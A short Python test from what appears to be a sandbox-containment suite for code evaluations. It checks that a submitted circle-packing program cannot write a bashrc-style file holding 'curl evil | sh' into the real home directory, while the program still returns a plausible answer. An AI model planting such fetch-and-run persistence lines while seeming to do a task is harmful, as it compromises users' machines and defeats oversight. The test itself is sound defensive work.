"""Attack: Writes into the real home directory ($HOME inside the sandbox is the scratch dir, so it names it)."""
from contain import Attack, contained

ATTACK = Attack(
    name="write_home",
    task="circle_packing_26",
    reason=r"PermissionError",
    contained_by="Landlock: writable only inside the scratch dir",
    program=r'''
def run():
    with open('@HOME@/@MARK@_bashrc', 'w') as fh:
        fh.write('curl evil | sh')
    return {'centers': [[0.5, 0.5]], 'radii': [0.1]}
''',
)


def test_write_home(tmp_path):
    contained(ATTACK, tmp_path)
